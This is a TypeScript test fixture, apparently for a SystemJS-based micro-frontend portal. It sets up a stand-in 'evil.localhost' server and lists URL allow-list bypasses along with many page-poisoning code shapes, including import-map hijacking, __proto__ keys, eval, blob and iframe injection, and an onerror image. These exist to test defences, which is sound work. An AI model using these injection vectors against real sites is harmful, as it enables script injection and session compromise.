import { createServer } from "node:http";
import { listen } from "../listen.ts";
import { cdnOrigin, originOf } from "../portal/portal.ts";

/** A foreign host that serves, at every address, a script that leaves a mark on the page it runs in. */
export async function openForeignHost() {
  const requests: string[] = [];
  const server = createServer((request, response) => {
    requests.push(request.url ?? "");
    response
      .writeHead(200, { "content-type": "text/javascript", "access-control-allow-origin": "*" })
      .end(foreignScript);
  });
  const { port, close } = await listen(server);
  return {
    host: `evil.localhost:${port}`,
    /** The paths that were requested from it. */
    requests,
    close,
  };
}

/** Runs as a classic script, as a System module and as a worker. */
export const foreignScript = `globalThis.foreign = (globalThis.foreign || 0) + 1;
globalThis.System?.register?.([], () => ({ execute() { globalThis.foreign += 1; } }));`;

const base64 = Buffer.from(foreignScript).toString("base64");

/**
 * Addresses that an entry of the import map must not lead to. All differ, since SystemJS requests an address only once.
 * @param host a foreign host
 */
export function hostileTargets(host: string): string[] {
  const portal = new URL(originOf("acme"));
  return [
    `http://${host}/1.js`,
    `//${host}/2.js`,
    `/\\${host}/3.js`,
    `HTTP://${host.toUpperCase()}/4.js`,
    ` http://${host}/5.js`,
    `http://${portal.host}@${host}/6.js`,
    `http://${host}/modules/navbar-mf/navbar-mf.js`,
    `${portal.origin}/modules/navbar-mf/../../api/openapi.json`,
    `data:text/javascript,${encodeURIComponent(foreignScript)}`,
    `data:text/javascript;base64,${base64}`,
    "javascript:globalThis.foreign=1",
    "/media/tenants/acme/logo.svg",
    "/modules/globex-tickets-mf/tickets.js",
    `${cdnOrigin}/modules/globex-tickets-mf/tickets.js`,
  ];
}

/** Ways to poison an open page: bodies of functions of a foreign script's `address` and text (`foreign`). */
export const hostileShapes: Record<string, string> = {
  "a scope": `System.addImportMap({ scopes: { "/": { "scoped": address } } }); return System.import("scoped", location.href);`,
  "a prefix": `System.addImportMap({ imports: { "@any/": address.replace("x.js", "") } }); return System.import("@any/x.js");`,
  "a known module's name": `System.delete(System.resolve("@portico/navbar-mf"));
    System.addImportMap({ imports: { "@portico/navbar-mf": address } }); return System.import("@portico/navbar-mf");`,
  __proto__: `System.addImportMap({ imports: JSON.parse('{"__proto__":' + JSON.stringify(address) + ',"constructor":' + JSON.stringify(address) + "}") });
    return System.import("constructor");`,
  "a depcache": `const known = System.resolve("@portico/profile-mf");
    System.addImportMap({ imports: { deeper: address }, depcache: { [known]: ["deeper"] } }); return System.import(known);`,
  "a map in the document": `const map = document.createElement("script"); map.type = "systemjs-importmap";
    map.append(JSON.stringify({ imports: { written: address } })); document.head.append(map);
    await System.prepareImport(true); return System.import("written");`,
  "a start in the document": `document.head.append(Object.assign(document.createElement("script"), { type: "systemjs-module", src: address }));
    return System.prepareImport(true);`,
  "a text to evaluate": `setTimeout(() => (0, eval)(foreign)); await new Promise((done) => setTimeout(done, 100));`,
  "a module's preload": `document.head.append(Object.assign(document.createElement("link"), { rel: "modulepreload", href: address }));`,
  "a blob": `const script = new Blob([foreign], { type: "text/javascript" });
    System.addImportMap({ imports: { blob: URL.createObjectURL(script) } }); return System.import("blob");`,
  "a script element": `document.head.append(Object.assign(document.createElement("script"), { src: address }));`,
  "a script's text": `document.head.append(Object.assign(document.createElement("script"), { textContent: foreign }));`,
  "an object": `document.body.append(Object.assign(document.createElement("object"), { data: address }));`,
  markup: `document.body.insertAdjacentHTML("beforeend", '<img src="x:" onerror="globalThis.foreign = 1">');`,
  "a frame's document": `document.body.append(Object.assign(document.createElement("iframe"), { srcdoc: "<script>parent.foreign = 1</script>" }));`,
  "a worker": `new Worker(address);`,
  "a native import": `return import(address);`,
};
